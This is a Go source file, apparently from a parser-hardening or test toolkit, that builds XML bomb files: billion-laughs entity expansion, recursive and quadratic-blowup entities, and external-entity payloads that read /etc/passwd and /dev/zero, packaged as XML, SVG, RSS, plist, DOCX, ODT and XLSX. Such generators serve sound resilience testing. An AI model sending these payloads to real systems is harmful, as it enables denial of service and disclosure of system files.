package bombs

import (
	"fmt"
	"io"
	"strings"
)

// entities are the XML bombs: entities that hold ten of the one before, one long entity many times, and ones that lie
// outside of the file.
func entities() []Bomb {
	laughs := `<!DOCTYPE bomb [<!ENTITY a0 "boom">`
	for i := 1; i < 30; i++ {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
	}
	laughs += `<!ENTITY % p0 "boom">`
	for i := 1; i < 30; i++ {
		laughs += fmt.Sprintf(`<!ENTITY %% p%d "%s">`, i, strings.Repeat(fmt.Sprintf("&#37;p%d;", i-1), 10))
	}
	laughs += `%p29;]>`
	itself := `<!DOCTYPE bomb [<!ENTITY a "&b;"><!ENTITY b "&a;">]>`
	outside := `<!DOCTYPE bomb [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://127.0.0.1:9/"><!ENTITY % more SYSTEM "file:///dev/zero">%more;]>`
	var all []Bomb
	for _, kind := range []struct{ name, dtd, use string }{
		{"laughs", laughs, "&a29;"}, {"itself", itself, "&a;"}, {"outside", outside, "&file;&net;"},
	} {
		all = append(all, inXML(kind.name, func(w io.Writer, _ Size) error { _, err := io.WriteString(w, kind.dtd); return err },
			func(w io.Writer, _ Size) error { _, err := io.WriteString(w, kind.use); return err })...)
	}
	return append(all, inXML("quadratic", func(w io.Writer, s Size) error {
		if _, err := io.WriteString(w, `<!DOCTYPE bomb [<!ENTITY a "`); err != nil {
			return err
		}
		if err := repeat(w, "boom", s.Wide/10); err != nil {
			return err
		}
		_, err := io.WriteString(w, `">]>`)
		return err
	}, func(w io.Writer, s Size) error { return repeat(w, "&a;", s.Wide/10) })...)
}

// inXML is a document type and the use of its entities in every kind of file that is XML.
func inXML(name string, dtd, use func(io.Writer, Size) error) []Bomb {
	const declaration = `<?xml version="1.0"?>`
	inside := func(w io.Writer, s Size, before, after string) error {
		if _, err := io.WriteString(w, declaration); err != nil {
			return err
		}
		if err := dtd(w, s); err != nil {
			return err
		}
		if _, err := io.WriteString(w, before); err != nil {
			return err
		}
		if err := use(w, s); err != nil {
			return err
		}
		_, err := io.WriteString(w, after)
		return err
	}
	bare := func(extension, before, after string) Bomb {
		return Bomb{Name: name + extension, Whole: true, Write: func(w io.Writer, s Size) error { return inside(w, s, before, after) }}
	}
	zipped := func(extension, path, before, after string, parts ...part) Bomb {
		return Bomb{Name: name + extension, Whole: true, Write: func(w io.Writer, s Size) error {
			var text strings.Builder
			if err := inside(&text, s, before, after); err != nil {
				return err
			}
			return writeZip(w, append(parts, part{name: path, text: text.String()})...)
		}}
	}
	document := func(head string) string { return strings.TrimPrefix(head, declaration) }
	return []Bomb{
		bare(".xml", "<bomb><title>Bomb</title><p>", "</p></bomb>"),
		bare(".svg", `<svg xmlns="http://www.w3.org/2000/svg"><text>`, "</text></svg>"),
		bare(".rss", "<rss><channel><title>Bomb</title><item><description>", "</description></item></channel></rss>"),
		bare(".xhtml", "<html><head><title>Bomb</title></head><body><p>", "</p></body></html>"),
		bare(".plist", "<plist><dict><key>bomb</key><string>", "</string></dict></plist>"),
		bare(".fodt", "<office:document><office:body><office:text><text:p>", "</text:p></office:text></office:body></office:document>"),
		zipped(".docx", "word/document.xml", document(wordHead)+"<w:p><w:r><w:t>", "</w:t></w:r></w:p>"+wordTail),
		zipped(".odt", "content.xml", openText+"<text:p>", "</text:p>"+openTail, part{name: "mimetype", text: mimeText}),
		zipped(".xlsx", "xl/sharedStrings.xml", "<sst><si><t>", "</t></si></sst>", workbook(part{text: sheetHead + `<row><c t="s"><v>0</v></c></row>` + sheetTail})...),
	}
}
